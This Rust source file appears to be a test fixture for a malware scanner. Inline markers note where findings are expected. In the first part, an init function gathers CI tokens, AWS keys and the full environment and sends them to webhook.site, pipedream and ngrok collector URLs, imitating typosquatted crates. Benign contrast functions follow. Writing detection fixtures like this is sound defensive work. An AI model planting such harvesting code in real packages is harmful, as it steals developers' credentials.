//! Environment harvesting as seen in typosquats of popular crates (`rustdecimal`,
//! `tokio-serde-jsonn`): the payload hides behind an innocent-looking init function.
//! Reading one configuration variable next to it stays silent.

use std::collections::BTreeMap;
use std::env;

const PANEL: &str = "https://webhook.site/6b1f3c2e-97aa-4c1e-9d55-0d5c7f3e2a10";
const CI_NAMES: [&str; 6] = [
    "GITHUB_TOKEN",
    "CARGO_REGISTRY_TOKEN",
    "AWS_ACCESS_KEY_ID",
    "AWS_SECRET_ACCESS_KEY",
    "NPM_TOKEN",
    "GITLAB_CI",
];

pub fn init() {
    let _ = report_ci();
    let _ = report_all();
    let _ = report_os();
}

fn report_ci() -> Result<(), ureq::Error> {
    let mut found = BTreeMap::new();
    for name in CI_NAMES {
        if let Ok(value) = env::var(name) {
            found.insert(name, value);
        }
    }
    ureq::post(PANEL).send_json(&found)?; //~ data-upload/suspicious-destination data-upload/env-vars-to-network
    Ok(())
}

fn report_all() -> Result<(), reqwest::Error> {
    let dump: String = env::vars_os()
        .map(|(k, v)| format!("{}={}", k.to_string_lossy(), v.to_string_lossy()))
        .collect::<Vec<_>>()
        .join("\n");
    let compressed = base64::encode(&dump);
    let client = reqwest::blocking::Client::builder()
        .timeout(std::time::Duration::from_secs(5))
        .build()?;
    client
        .post("https://pipedream-collector.m.pipedream.net") //~ data-upload/suspicious-destination
        .body(compressed) //~ data-upload/env-vars-to-network
        .send()?;
    Ok(())
}

fn report_os() -> Result<(), ureq::Error> {
    let token = env::var("CARGO_REGISTRY_TOKEN").unwrap_or_default();
    let user = env::var("USER").unwrap_or_default();
    ureq::get("https://ngrok-relay.ngrok-free.app/t") //~ data-upload/suspicious-destination
        .query("t", &token) //~ data-upload/env-vars-to-network
        .query("u", &user) //~ data-upload/device-id-to-network
        .call()?;
    Ok(())
}

pub fn honest_config_client() -> Result<String, ureq::Error> {
    // One configuration variable, sent where it is meant to go: silent.
    let base = env::var("API_URL").unwrap_or_else(|_| "https://api.example.com".into());
    let region = env::var("AWS_REGION").unwrap_or_default();
    let body = ureq::get(&format!("{base}/v1/config"))
        .query("region", &region)
        .call()?
        .into_string()?;
    Ok(body)
}

pub fn honest_token_use() -> Result<(), ureq::Error> {
    // A token in the Authorization header of the API that issued it is its purpose.
    let token = env::var("GITHUB_TOKEN").unwrap_or_default();
    ureq::get("https://api.github.com/user")
        .set("Authorization", &format!("Bearer {token}"))
        .call()?;
    Ok(())
}

pub fn debug_print_env() { //~ debug-entry/debug-code-in-release
    for (key, value) in env::vars() {
        if key.starts_with("MYAPP_") {
            println!("{key}={value}");
        }
    }
}

pub fn count_env(client: &reqwest::blocking::Client) {
    let count = env::vars().count();
    let has_ci = env::var("CI").is_ok();
    let _ = client
        .post("https://telemetry.example.com/ci")
        .json(&serde_json::json!({ "vars": count, "ci": has_ci }))
        .send();
}
